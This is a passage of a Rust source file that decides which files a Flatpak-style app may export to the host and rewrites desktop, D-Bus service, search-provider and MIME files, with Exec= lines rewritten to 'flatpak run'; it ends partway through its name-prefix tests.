//! What an app may export to the host, and the rewritten files the daemon
//! writes in its place: Flatpak's own rules (`common/flatpak-dir.c`
//! `rewrite_export_dir`, `export_desktop_file`, `export_mime_file`,
//! `export_ini_file`, `flatpak_export_dir`; `common/flatpak-context.c`
//! `flatpak_context_get_allowed_exports`), applied to files a release
//! ships under `export/`, which are never taken as they are.
//!
//! Two steps, so that nothing is read that would be refused anyway:
//! [`classify`] decides from the path and mode alone whether a file can be
//! exported at all; [`rewrite`] then checks its content and returns what is
//! written instead: desktop files and D-Bus service files with `Exec=`
//! rewritten to `flatpak run`, MIME packages rebuilt without magic rules,
//! search providers disabled by default, icons and metainfo checked. The
//! `bin/ID` wrapper is never taken from a release: [`wrapper`] writes it.
//! Everything refused comes back as an [`ExportError`] with the reason.

use std::fmt::Write as _;

/// The `flatpak` every rewritten `Exec=` runs (Flatpak's `FLATPAK_BINDIR`).
pub const FLATPAK_BINARY: &str = "/usr/bin/flatpak";

/// Most nodes an exported XML document may have.
const XML_NODES_LIMIT: u32 = 100_000;

/// The app whose exports are checked.
#[derive(Debug, Clone, Copy)]
pub struct ExportContext<'a> {
    pub app_id: &'a str,
    pub arch: &'a str,
    pub branch: &'a str,
    /// The session bus names the app's `metadata` lets it own
    /// ([`own_names`]): Flatpak exports D-Bus service files for exactly
    /// these too.
    pub own_names: &'a [String],
}

/// The session bus names `metadata` lets the app own (`[Session Bus
/// Policy] NAME=own`, `NAME` possibly `PREFIX.*`), as Flatpak's
/// `flatpak_context_get_session_bus_policy_allowed_own_names` lists them.
pub fn own_names(metadata: &crate::metadata::Metadata) -> Vec<String> {
    metadata
        .permissions
        .session_bus
        .iter()
        .filter(|(_, policy)| **policy == crate::metadata::BusPolicy::Own)
        .map(|(name, _)| name.clone())
        .collect()
}

/// What a file under `export/` is, decided from its path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportKind {
    /// `share/applications/*.desktop`.
    Desktop,
    /// `share/krunner/dbusplugins/*.desktop` (a desktop file, disabled by default).
    KrunnerPlugin,
    /// `share/dbus-1/services/*.service`.
    DbusService,
    /// `share/gnome-shell/search-providers/*.ini`.
    SearchProvider,
    /// `share/mime/packages/*.xml`.
    MimePackage,
    /// `share/metainfo/*.xml`, `share/metainfo/releases/*.releases.xml`.
    Metainfo,
    /// `share/icons/**.{png,svg,svgz,ico}`.
    Icon(IconFormat),
}

/// The icon formats Flatpak exports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IconFormat {
    Png,
    Svg,
    Svgz,
    Ico,
}

/// Why a file under `export/` is not exported.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExportError {
    #[error("{0} is not a directory Flatpak exports from")]
    NotExported(String),
    #[error("runtimes export nothing")]
    Runtime,
    #[error("{name}: only {allowed} files are exported from {dir}")]
    Extension {
        name: String,
        dir: String,
        allowed: String,
    },
    #[error("{name} is not named for the app {app} (file names must start with the app id)")]
    NotPrefixed { name: String, app: String },
    #[error("the daemon writes bin/{0} itself; other files in bin/ are not exported")]
    Bin(String),
    #[error("mode {0:o} has setuid, setgid or sticky bits")]
    Mode(u32),
    #[error("line {line}: {reason}")]
    Keyfile { line: usize, reason: String },
    #[error("{0}")]
    Invalid(String),
}

impl ExportError {
    fn invalid(reason: impl Into<String>) -> Self {
        ExportError::Invalid(reason.into())
    }
}

/// A file to write into the deploy's `export/`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Exported {
    /// Relative to `export/`.
    pub path: String,
    pub data: Vec<u8>,
    /// Written 0755 when set (only the `bin/` wrapper), else 0644.
    pub executable: bool,
}

// ---------------------------------------------------------------------------
// Names (`common/flatpak-ref-utils.c`)

fn is_initial_name_char(c: u8, allow_dash: bool) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || (allow_dash && c == b'-')
}

fn is_name_char(c: u8, allow_dash: bool) -> bool {
    is_initial_name_char(c, allow_dash) || c.is_ascii_digit()
}

/// `flatpak_has_name_prefix`: `string` is `name`, or starts with it
/// followed by `.` or a character that cannot continue a name element.
pub fn has_name_prefix(string: &str, name: &str) -> bool {
    let Some(rest) = string.strip_prefix(name) else {
        return false;
    };
    match rest.bytes().next() {
        None => true,
        Some(c) => c == b'.' || !is_name_char(c, false),
    }
}

/// `flatpak_name_matches_one_wildcard_prefix` with the single prefix
/// `APP_ID.*` that Flatpak allows for every export.
#[cfg(test)]
fn matches_app_prefix(name: &str, app_id: &str, exact: bool) -> bool {
    matches_one_wildcard_prefix(name, [format!("{app_id}.*").as_str()], exact)
}

/// `flatpak_name_matches_one_wildcard_prefix` (`common/flatpak-ref-utils.c`):
/// the longest match of `name` against `prefixes` (`NAME` matches itself,
/// `NAME.*` also any further name elements); with `exact` the match must
/// be all of `name`, else it may be followed by `.` or a character that
/// cannot continue a name element (not `-`).
fn matches_one_wildcard_prefix<'p>(
    name: &str,
    prefixes: impl IntoIterator<Item = &'p str>,
    exact: bool,
) -> bool {
    let bytes = name.as_bytes();
    let at = |i: usize| bytes.get(i).copied().unwrap_or(0);
    let mut longest = 0;
    for prefix in prefixes {
        let (prefix, wildcard) = match prefix.strip_suffix(".*") {
            Some(p) => (p, true),
            None => (prefix, false),
        };
        if !name.starts_with(prefix) {
            continue;
        }
        let mut end = prefix.len();
        if wildcard && at(end) == b'.' && is_initial_name_char(at(end + 1), true) {
            end += 2;
            while end < bytes.len()
                && (is_name_char(at(end), true)
                    || (at(end) == b'.' && is_initial_name_char(at(end + 1), true)))
            {
                end += 1;
            }
        }
        longest = longest.max(end);
    }
    if longest == 0 {
        return false;
    }
    if exact {
        return longest == bytes.len();
    }
    match bytes.get(longest) {
        None => true,
        Some(&c) => c == b'.' || !is_name_char(c, false),
    }
}

// ---------------------------------------------------------------------------
// Step 1: path and mode

/// Decides from its path under `export/` and its mode whether a file of
/// `ctx.app_id` can be exported, and as what. Nothing needs to be read for
/// this: a refused file is never fetched.
pub fn classify(ctx: &ExportContext<'_>, path: &str, mode: u32) -> Result<ExportKind, ExportError> {
    let (dir, name) = path.rsplit_once('/').unwrap_or(("", path));
    if dir == "bin" {
        return Err(ExportError::Bin(ctx.app_id.to_string()));
    }
    if path
        .split('/')
        .any(|c| c.is_empty() || c == "." || c == "..")
    {
        return Err(ExportError::NotExported(dir.to_string()));
    }
    let (allowed, exact): (&[(&str, ExportKind)], bool) = match dir {
        "share/applications" => (&[(".desktop", ExportKind::Desktop)], false),
        "share/krunner/dbusplugins" => (&[(".desktop", ExportKind::KrunnerPlugin)], false),
        "share/dbus-1/services" => (&[(".service", ExportKind::DbusService)], true),
        "share/gnome-shell/search-providers" => (&[(".ini", ExportKind::SearchProvider)], false),
        "share/mime/packages" => (&[(".xml", ExportKind::MimePackage)], false),
        "share/metainfo" => (&[(".xml", ExportKind::Metainfo)], false),
        "share/metainfo/releases" => (&[(".releases.xml", ExportKind::Metainfo)], false),
        d if d == "share/icons" || d.starts_with("share/icons/") => (
            &[
                (".svgz", ExportKind::Icon(IconFormat::Svgz)),
                (".png", ExportKind::Icon(IconFormat::Png)),
                (".svg", ExportKind::Icon(IconFormat::Svg)),
                (".ico", ExportKind::Icon(IconFormat::Ico)),
            ],
            false,
        ),
        _ => return Err(ExportError::NotExported(dir.to_string())),
    };
    let Some((stem, kind)) = allowed
        .iter()
        .find_map(|(ext, kind)| name.strip_suffix(ext).map(|stem| (stem, *kind)))
    else {
        return Err(ExportError::Extension {
            name: name.to_string(),
            dir: dir.to_string(),
            allowed: allowed
                .iter()
                .map(|(e, _)| *e)
                .collect::<Vec<_>>()
                .join(" "),
        });
    };
    let app_prefix = format!("{}.*", ctx.app_id);
    // `share/dbus-1/services` also takes the bus names the app may own
    // (exact names only, as the file name is the bus name).
    let owned: &[String] = if kind == ExportKind::DbusService {
        ctx.own_names
    } else {
        &[]
    };
    let prefixes = std::iter::once(app_prefix.as_str()).chain(owned.iter().map(String::as_str));
    if !matches_one_wildcard_prefix(stem, prefixes, exact) {
        return Err(ExportError::NotPrefixed {
            name: name.to_string(),
            app: ctx.app_id.to_string(),
        });
    }
    if mode & 0o7000 != 0 {
        return Err(ExportError::Mode(mode));
    }
    Ok(kind)
}

// ---------------------------------------------------------------------------
// Step 2: content

/// Checks the content of a file [`classify`] accepted as `kind` and
/// returns what is written in its place.
pub fn rewrite(
    ctx: &ExportContext<'_>,
    path: &str,
    kind: ExportKind,
    data: &[u8],
) -> Result<Exported, ExportError> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let data = match kind {
        ExportKind::Desktop | ExportKind::KrunnerPlugin => rewrite_desktop(ctx, data)?,
        ExportKind::DbusService => rewrite_service(ctx, name, data)?,
        ExportKind::SearchProvider => rewrite_search_provider(data)?,
        ExportKind::MimePackage => rewrite_mime(data)?,
        ExportKind::Metainfo => {
            check_metainfo(data)?;
            data.to_vec()
        }
        ExportKind::Icon(format) => {
            check_icon(format, data)?;
            data.to_vec()
        }
    };
    Ok(Exported {
        path: path.to_string(),
        data,
        executable: false,
    })
}

/// `bin/ID`: the wrapper Flatpak writes for every app.
pub fn wrapper(ctx: &ExportContext<'_>) -> Exported {
    let text = format!(
        "#!/bin/sh\nexec {FLATPAK_BINARY} run --branch={} --arch={} {} \"$@\"\n",
        maybe_quote(ctx.branch),
        maybe_quote(ctx.arch),
        maybe_quote(ctx.app_id)
    );
    Exported {
        path: format!("bin/{}", ctx.app_id),
        data: text.into_bytes(),
        executable: true,
    }
}

// ---------------------------------------------------------------------------
// Key files (GKeyFile's format, as desktop files and D-Bus services use it)

/// A key file read the way GLib's `GKeyFile` reads it, written back in a
/// canonical form (comments dropped). Values are kept as written (escaped);
/// [`KeyFile::get`] unescapes, [`KeyFile::set`] escapes.
#[derive(Debug, Default)]
struct KeyFile {
    groups: Vec<(String, Vec<(String, String)>)>,
}

fn valid_key(key: &str) -> bool {
    let (base, locale) = match key.split_once('[') {
        Some((base, rest)) => match rest.strip_suffix(']') {
            Some(locale) => (base, Some(locale)),
            None => return false,
        },
        None => (key, None),
    };
    !base.is_empty()
        && base.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
        && locale.is_none_or(|l| {
            !l.is_empty()
                && l.bytes()
                    .all(|c| c.is_ascii_alphanumeric() || b"_@.-".contains(&c))
        })
}

impl KeyFile {
    fn parse(data: &[u8]) -> Result<KeyFile, ExportError> {
        let text = std::str::from_utf8(data).map_err(|e| ExportError::Keyfile {
            line: data[..e.valid_up_to()]
                .iter()
                .filter(|&&b| b == b'\n')
                .count()
                + 1,
            reason: "not UTF-8".into(),
        })?;
        let mut file = KeyFile::default();
        let mut current: Option<usize> = None;
        for (i, raw) in text.split('\n').enumerate() {
            let line = i + 1;
            let err = |reason: &str| ExportError::Keyfile {
                line,
                reason: reason.to_string(),
            };
            if raw.chars().any(|c| c.is_control() && c != '\t') {
                return Err(err("control character"));
            }
            let trimmed = raw.trim_start_matches([' ', '\t']);
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            if let Some(rest) = trimmed.strip_prefix('[') {
                let name = rest
                    .trim_end_matches([' ', '\t'])
                    .strip_suffix(']')
                    .ok_or_else(|| err("a group header without ]"))?;
                if name.is_empty() || name.contains(['[', ']']) {
                    return Err(err("invalid group name"));
                }
                current = Some(match file.groups.iter().position(|(g, _)| g == name) {
                    Some(at) => at,
                    None => {
                        file.groups.push((name.to_string(), Vec::new()));
                        file.groups.len() - 1
                    }
                });
                continue;
            }
            let (key, value) = trimmed
                .split_once('=')
                .ok_or_else(|| err("neither a group, a key nor a comment"))?;
            let key = key.trim_end_matches([' ', '\t']);
            if !valid_key(key) {
                return Err(err("invalid key name"));
            }
            let value = value.trim_start_matches([' ', '\t']);
            let at = current.ok_or_else(|| err("a key before the first group"))?;
            file.set_raw(at, key, value.to_string());
        }
        Ok(file)
    }

    fn group(&self, name: &str) -> Option<usize> {
        self.groups.iter().position(|(g, _)| g == name)
    }

    fn set_raw(&mut self, group: usize, key: &str, raw: String) {
        let entries = &mut self.groups[group].1;
        match entries.iter_mut().find(|(k, _)| k == key) {
            Some(entry) => entry.1 = raw,
            None => entries.push((key.to_string(), raw)),
        }
    }

    fn raw(&self, group: usize, key: &str) -> Option<&str> {
        self.groups[group]
            .1
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }

    /// The unescaped value (`g_key_file_get_string`); an invalid escape
    /// is an error.
    fn get(&self, group: usize, key: &str) -> Result<Option<String>, ExportError> {
        let Some(raw) = self.raw(group, key) else {
            return Ok(None);
        };
        let mut out = String::with_capacity(raw.len());
        let mut chars = raw.chars();
        while let Some(c) = chars.next() {
            if c != '\\' {
                out.push(c);
                continue;
            }
            out.push(match chars.next() {
                Some('s') => ' ',
                Some('n') => '\n',
                Some('t') => '\t',
                Some('r') => '\r',
                Some('\\') => '\\',
                _ => {
                    return Err(ExportError::invalid(format!(
                        "{key}= has an invalid escape sequence"
                    )))
                }
            });
        }
        Ok(Some(out))
    }

    /// Sets an unescaped value (`g_key_file_set_string`).
    fn set(&mut self, group: usize, key: &str, value: &str) {
        let mut raw = String::with_capacity(value.len());
        let mut leading = true;
        for c in value.chars() {
            match c {
                ' ' if leading => raw.push_str("\\s"),
                '\n' => raw.push_str("\\n"),
                '\t' => raw.push_str("\\t"),
                '\r' => raw.push_str("\\r"),
                '\\' => raw.push_str("\\\\"),
                c => raw.push(c),
            }
            if c != ' ' {
                leading = false;
            }
        }
        self.set_raw(group, key, raw);
    }

    fn remove(&mut self, group: usize, key: &str) {
        self.groups[group].1.retain(|(k, _)| k != key);
    }

    fn to_bytes(&self) -> Vec<u8> {
        let mut out = String::new();
        for (i, (name, entries)) in self.groups.iter().enumerate() {
            if i > 0 {
                out.push('\n');
            }
            let _ = writeln!(out, "[{name}]");
            for (key, value) in entries {
                let _ = writeln!(out, "{key}={value}");
            }
        }
        out.into_bytes()
    }
}

// ---------------------------------------------------------------------------
// Exec= (GLib's g_shell_parse_argv and g_shell_quote, Flatpak's maybe_quote)

/// Splits a command line the way `g_shell_parse_argv` does: blanks
/// separate words, `'…'` is literal, `"…"` honours `\` before `"`, `\`,
/// `` ` ``, `$` and newline, `\` outside quotes takes the next character,
/// `#` at the start of a word begins a comment. No expansion.
fn shell_split(line: &str) -> Result<Vec<String>, ExportError> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' | '\n' => {
                if let Some(w) = word.take() {
                    words.push(w);
                }
            }
            '#' if word.is_none() => {
                for c in chars.by_ref() {
                    if c == '\n' {
                        break;
                    }
                }
            }
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(next) => word.get_or_insert_with(String::new).push(next),
                None => return Err(ExportError::invalid("Exec= ends with a backslash")),
            },
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => w.push(c),
                        None => return Err(ExportError::invalid("Exec= has an unmatched '")),
                    }
                }
            }
            '"' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.peek() {
                            Some(&n @ ('"' | '\\' | '`' | '$')) => {
                                chars.next();
                                w.push(n);
                            }
                            Some('\n') => {
                                chars.next();
                            }
                            _ => w.push('\\'),
                        },
                        Some(c) => w.push(c),
                        None => return Err(ExportError::invalid("Exec= has an unmatched \"")),
                    }
                }
            }
            c => word.get_or_insert_with(String::new).push(c),
        }
    }
    if let Some(w) = word {
        words.push(w);
    }
    Ok(words)
}

/// `g_shell_quote`.
fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Flatpak's `maybe_quote`: quoted unless made only of `[A-Za-z0-9-_%.=:/@]`
/// (an empty word is quoted too, so that it is not lost).
fn maybe_quote(s: &str) -> String {
    if !s.is_empty()
        && s.bytes()
            .all(|c| c.is_ascii_alphanumeric() || b"-_%.=:/@".contains(&c))
    {
        s.to_string()
    } else {
        shell_quote(s)
    }
}

/// An `Exec=` line taken apart: the command (none: the app's default) and
/// its arguments, and the `flatpak run` options Flatpak carries over.
#[derive(Debug, Default)]
struct Command {
    command: Option<String>,
    args: Vec<String>,
    options: Vec<&'static str>,
}

/// Takes apart an `Exec=` that Flatpak rewrote already (a release
/// published from a deploy directory holds its exports in post-deploy
/// form): `flatpak run [--branch= --arch= --command= --file-forwarding
/// --no-a11y-bus --no-documents-portal] APP_ID ARGS`, with `@@ %f @@`
/// and `@@u %u @@` turned back into the field codes. `None` when `argv`
/// is not such a line; an error when it runs another app or passes other
/// options to `flatpak`.
fn undo_flatpak_run(
    ctx: &ExportContext<'_>,
    argv: &[String],
) -> Result<Option<Command>, ExportError> {
    let is_flatpak = argv
        .first()
        .is_some_and(|a| a.rsplit('/').next() == Some("flatpak"));
    if !is_flatpak || argv.get(1).map(String::as_str) != Some("run") {
        return Ok(None);
    }
    let mut out = Command::default();
    let mut rest = argv[2..].iter();
    let app = loop {
        let Some(arg) = rest.next() else {
            return Err(ExportError::invalid("Exec= runs flatpak without an app"));
        };
        if !arg.starts_with('-') {
            break arg;
        }
        if let Some(command) = arg.strip_prefix("--command=") {
            out.command = Some(command.to_string());
        } else if arg == "--no-a11y-bus" {
            out.options.push("no-a11y-bus");
        } else if arg == "--no-documents-portal" {
            out.options.push("no-documents-portal");
        } else if !(arg.starts_with("--branch=")
            || arg.starts_with("--arch=")
            || arg == "--file-forwarding")
        {
            return Err(ExportError::invalid(format!(
                "Exec= runs flatpak with the option {arg}"
            )));
        }
    };
    if app != ctx.app_id {
        return Err(ExportError::invalid(format!(
            "Exec= runs another app ({app})"
        )));
    }
    while let Some(arg) = rest.next() {
        if arg == "@@" || arg == "@@u" {
            match (rest.next(), rest.next()) {
                (Some(code), Some(end))
                    if end == "@@" && ["%f", "%u"].iter().any(|c| code.eq_ignore_ascii_case(c)) =>
                {
                    out.args.push(code.clone())
                }
                _ => {
                    return Err(ExportError::invalid(
                        "Exec= forwards files in an unknown way",
                    ))
                }
            }
        } else {
            out.args.push(arg.clone());
        }
    }
    Ok(Some(out))
}

/// The `Exec=` Flatpak writes for `old` (`export_desktop_file`): the same
/// command and arguments, run inside the app's sandbox. An `Exec=` that is
/// a `flatpak run` of this app already is taken apart first, so that it is
/// not wrapped twice.
fn flatpak_exec(
    ctx: &ExportContext<'_>,
    old: Option<&str>,
    run_options: Option<&str>,
) -> Result<String, ExportError> {
    let argv = match old {
        Some(old) => shell_split(old)?,
        None => Vec::new(),
    };
    let mut parts = match undo_flatpak_run(ctx, &argv)? {
        Some(parts) => parts,
        None => {
            let mut argv = argv.into_iter();
            Command {
                command: argv.next(),
                args: argv.collect(),
                options: Vec::new(),
            }
        }
    };
    for option in run_options.unwrap_or_default().split(';') {
        match option {
            "no-a11y-bus" => parts.options.push("no-a11y-bus"),
            "no-documents-portal" => parts.options.push("no-documents-portal"),
            _ => {}
        }
    }
    let mut exec = format!(
        "{FLATPAK_BINARY} run --branch={} --arch={}",
        maybe_quote(ctx.branch),
        maybe_quote(ctx.arch)
    );
    for option in ["no-a11y-bus", "no-documents-portal"] {
        if parts.options.contains(&option) {
            let _ = write!(exec, " --{option}");
        }
    }
    if let Some(command) = &parts.command {
        let _ = write!(exec, " --command={}", maybe_quote(command));
    }
    let forwards = |a: &String| a.eq_ignore_ascii_case("%f") || a.eq_ignore_ascii_case("%u");
    if parts.args.iter().any(forwards) {
        exec.push_str(" --file-forwarding");
    }
    let _ = write!(exec, " {}", maybe_quote(ctx.app_id));
    for arg in &parts.args {
        let quoted = maybe_quote(arg);
        if quoted.eq_ignore_ascii_case("%f") {
            let _ = write!(exec, " @@ {quoted} @@");
        } else if quoted.eq_ignore_ascii_case("%u") {
            let _ = write!(exec, " @@u {quoted} @@");
        } else if quoted.starts_with("@@") {
            return Err(ExportError::invalid(format!("invalid Exec argument {arg}")));
        } else {
            let _ = write!(exec, " {quoted}");
        }
    }
    Ok(exec)
}

/// Rewrites `Exec=` of every group to `flatpak run` and drops the keys
/// that would run something outside the sandbox.
fn rewrite_execs(ctx: &ExportContext<'_>, file: &mut KeyFile) -> Result<(), ExportError> {
    for group in 0..file.groups.len() {
        let options = file.get(group, "X-Flatpak-RunOptions")?;
        file.remove(group, "X-Flatpak-RunOptions");
        file.remove(group, "TryExec");
        file.remove(group, "X-GNOME-Bugzilla-ExtraInfoScript");
        // Localized variants (`Exec[de]=`) of what runs are dropped too: no
        // launcher should take them, none gets the chance.
        for key in ["Exec", "TryExec", "X-GNOME-Bugzilla-ExtraInfoScript"] {
            file.groups[group]
                .1
                .retain(|(k, _)| !(k.starts_with(key) && k[key.len()..].starts_with('[')));
        }
        let old = file.get(group, "Exec")?;
        let exec = flatpak_exec(ctx, old.as_deref(), options.as_deref())?;
        file.set(group, "Exec", &exec);
    }
    Ok(())
}

fn rewrite_desktop(ctx: &ExportContext<'_>, data: &[u8]) -> Result<Vec<u8>, ExportError> {
    let mut file = KeyFile::parse(data)?;
    let entry = file
        .group("Desktop Entry")
        .ok_or_else(|| ExportError::invalid("no [Desktop Entry] group"))?;
    file.set(entry, "X-Flatpak", ctx.app_id);
    let enabled = file.raw(entry, "X-KDE-PluginInfo-EnabledByDefault");
    if enabled.is_some_and(|v| !matches!(v.trim(), "false" | "0")) {
        file.set(entry, "X-KDE-PluginInfo-EnabledByDefault", "false");
    }
    rewrite_execs(ctx, &mut file)?;
    Ok(file.to_bytes())
}

/// A D-Bus service file: `Name=` must be the file's name (which
/// [`classify`] checked against the app id); only `Name=` and the rewritten
/// `Exec=` are kept, so that no `SystemdService=` or `User=` reaches the
/// bus daemon.
fn rewrite_service(
    ctx: &ExportContext<'_>,
    file_name: &str,
    data: &[u8],
) -> Result<Vec<u8>, ExportError> {
    let expected = file_name.strip_suffix(".service").unwrap_or(file_name);
    let file = KeyFile::parse(data)?;
    let group = file
        .group("D-BUS Service")
        .ok_or_else(|| ExportError::invalid("no [D-BUS Service] group"))?;
    let name = file.get(group, "Name")?;
    if name.as_deref() != Some(expected) {
        return Err(ExportError::invalid(format!(
            "D-Bus service file {file_name} has Name={}, not {expected}",
            name.unwrap_or_default()
        )));
    }
    let options = file.get(group, "X-Flatpak-RunOptions")?;
    let exec = flatpak_exec(ctx, file.get(group, "Exec")?.as_deref(), options.as_deref())?;
    let mut out = KeyFile::default();
    out.groups.push(("D-BUS Service".into(), Vec::new()));
    out.set(0, "Name", expected);
    out.set(0, "Exec", &exec);
    Ok(out.to_bytes())
}

fn rewrite_search_provider(data: &[u8]) -> Result<Vec<u8>, ExportError> {
    let mut file = KeyFile::parse(data)?;
    let group = file
        .group("Shell Search Provider")
        .ok_or_else(|| ExportError::invalid("no [Shell Search Provider] group"))?;
    file.set(group, "DefaultDisabled", "true");
    Ok(file.to_bytes())
}

// ---------------------------------------------------------------------------
// XML: MIME packages, metainfo, SVG icons

fn parse_xml(data: &[u8]) -> Result<roxmltree::Document<'_>, ExportError> {
    let text =
        std::str::from_utf8(data).map_err(|_| ExportError::invalid("XML that is not UTF-8"))?;
    let options = roxmltree::ParsingOptions {
        allow_dtd: false,
        nodes_limit: XML_NODES_LIMIT,
        ..Default::default()
    };
    roxmltree::Document::parse_with_options(text, options)
        .map_err(|e| ExportError::invalid(format!("not well-formed XML: {e}")))
}

fn xml_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            c => out.push(c),
        }
    }
    out
}

const MIME_NS: &str = "http://www.freedesktop.org/standards/shared-mime-info";

/// A shared-mime-info package, rebuilt from what is known of it: each
/// `mime-type` with its comments, acronyms, globs (weight 5, as Flatpak
/// sets it, so that no system type is overridden), aliases, parents,
/// icons and root-XML rules. Magic and tree-magic rules are dropped
/// (Flatpak drops magic); anything else is refused.
fn rewrite_mime(data: &[u8]) -> Result<Vec<u8>, ExportError> {
    let doc = parse_xml(data)?;
    let root = doc.root_element();
    if root.tag_name().name() != "mime-info" {
        return Err(ExportError::invalid(
            "a MIME package whose root is not <mime-info>",
        ));
    }
    let mut out =
        format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<mime-info xmlns=\"{MIME_NS}\">\n");
    for mime in root.children().filter(|n| n.is_element()) {
        if mime.tag_name().name() != "mime-type" {
            return Err(ExportError::invalid(format!(
                "<{}> in <mime-info>",
                mime.tag_name().name()
            )));
        }
        let ty = mime
            .attribute("type")
            .filter(|t| valid_mime_type(t))
            .ok_or_else(|| ExportError::invalid("a <mime-type> without a valid type"))?;
        let _ = writeln!(out, "  <mime-type type=\"{}\">", xml_escape(ty));
        for child in mime.children().filter(|n| n.is_element()) {
            let tag = child.tag_name().name();
            let attr = |name: &str| {
                child
                    .attribute(name)
                    .ok_or_else(|| ExportError::invalid(format!("<{tag}> without {name}=")))
            };
            match tag {
                "magic" | "treemagic" => {}
                "comment" | "acronym" | "expanded-acronym" => {
                    let text: String = child.text().unwrap_or_default().to_string();
                    let lang = child
                        .attributes()
                        .find(|a| a.name() == "lang")
                        .map(|a| format!(" xml:lang=\"{}\"", xml_escape(a.value())))
                        .unwrap_or_default();
                    let _ = writeln!(out, "    <{tag}{lang}>{}</{tag}>", xml_escape(&text));
                }
                "glob" => {
                    let case = match child.attribute("case-sensitive") {
                        Some("true") => " case-sensitive=\"true\"",
                        _ => "",
                    };
                    let _ = writeln!(
                        out,
                        "    <glob pattern=\"{}\" weight=\"5\"{case}/>",
                        xml_escape(attr("pattern")?)
                    );
                }
                "sub-class-of" | "alias" => {
                    let ty = attr("type")?;
                    if !valid_mime_type(ty) {
                        return Err(ExportError::invalid(format!("<{tag}> type={ty:?}")));
                    }
                    let _ = writeln!(out, "    <{tag} type=\"{}\"/>", xml_escape(ty));
                }
                "icon" | "generic-icon" => {
                    let _ = writeln!(out, "    <{tag} name=\"{}\"/>", xml_escape(attr("name")?));
                }
                "root-XML" => {
                    let _ = writeln!(
                        out,
                        "    <root-XML namespaceURI=\"{}\" localName=\"{}\"/>",
                        xml_escape(attr("namespaceURI")?),
                        xml_escape(attr("localName")?)
                    );
                }
                other => {
                    return Err(ExportError::invalid(format!("<{other}> in <mime-type>")));
                }
            }
        }
        out.push_str("  </mime-type>\n");
    }
    out.push_str("</mime-info>\n");
    Ok(out.into_bytes())
}

fn valid_mime_type(ty: &str) -> bool {
    let part = |s: &str| {
        !s.is_empty()
            && s.len() <= 127
            && s.bytes()
                .all(|c| c.is_ascii_alphanumeric() || b"!#$&-^_.+".contains(&c))
    };
    matches!(ty.split_once('/'), Some((a, b)) if part(a) && part(b))
}

fn check_metainfo(data: &[u8]) -> Result<(), ExportError> {
    let doc = parse_xml(data)?;
    match doc.root_element().tag_name().name() {
        "component" | "components" | "releases" => Ok(()),
        other => Err(ExportError::invalid(format!(
            "metainfo whose root is <{other}>"
        ))),
    }
}

fn check_icon(format: IconFormat, data: &[u8]) -> Result<(), ExportError> {
    let ok = match format {
        IconFormat::Png => data.starts_with(b"\x89PNG\r\n\x1a\n"),
        IconFormat::Ico => data.starts_with(&[0, 0, 1, 0]),
        IconFormat::Svgz => data.starts_with(&[0x1f, 0x8b]),
        IconFormat::Svg => {
            let doc = parse_xml(data)?;
            doc.root_element().tag_name().name() == "svg"
        }
    };
    if ok {
        Ok(())
    } else {
        Err(ExportError::invalid(format!(
            "not a {} image",
            match format {
                IconFormat::Png => "PNG",
                IconFormat::Ico => "ICO",
                IconFormat::Svgz => "gzip-compressed SVG",
                IconFormat::Svg => "SVG",
            }
        )))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CTX: ExportContext<'static> = ExportContext {
        app_id: "org.test.Hello",
        arch: "x86_64",
        branch: "master",
        own_names: &[],
    };

    fn class(path: &str) -> Result<ExportKind, ExportError> {
        classify(&CTX, path, 0o644)
    }

    fn text(e: &Exported) -> &str {
        std::str::from_utf8(&e.data).unwrap()
    }

    fn desktop(data: &str) -> Result<String, ExportError> {
        let path = "share/applications/org.test.Hello.desktop";
        rewrite(&CTX, path, ExportKind::Desktop, data.as_bytes()).map(|e| text(&e).to_string())
    }

    fn exec_of(out: &str, group: &str) -> String {
        let mut in_group = false;
        for line in out.lines() {
            if line.starts_with('[') {
                in_group = line == format!("[{group}]");
            } else if in_group {
                if let Some(v) = line.strip_prefix("Exec=") {
                    return v.to_string();
                }
            }
        }
        panic!("no Exec= in [{group}] of {out}")
    }

    #[test]
    fn name_prefixes_follow_flatpak() {
        assert!(has_name_prefix("org.test.Hello", "org.test.Hello"));
        assert!(has_name_prefix("org.test.Hello.x", "org.test.Hello"));
        assert!(has_name_prefix("org.test.Hello-symbolic", "org.test.Hello"));
        assert!(!has_name_prefix("org.test.HelloWorld", "org.test.Hello"));
        assert!(!has_name_prefix("org.test.Hell", "org.test.Hello"));
        for ok in [
            "org.test.Hello",
            "org.test.Hello.Extra",
            "org.test.Hello-symbolic",
            "org.test.Hello.Extra-settings",
        ] {
            assert!(matches_app_prefix(ok, "org.test.Hello", false), "{ok}");
        }
        for bad in [
            "org.test.HelloWorld",
            "org.test.Hell",
            "org.other.App",
            "",
            "org.test.Hello_x",
        ] {
            assert!(!matches_app_prefix(bad, "org.test.Hello", false), "{bad}");
        }
        assert!(matches_app_prefix("org.test.Hello", "org.test.Hello", true));
        assert!(matches_app_prefix(
            "org.test.Hello.Helper",
            "org.test.Hello",
            true
        ));
        assert!(!matches_app_prefix(
            "org.test.Hello-x",
            "org.test.Hello",
            true
        ));
        assert!(!matches_app_prefix(
            "org.test.Hello.",
            "org.test.Hello",
            true
        ));
    }

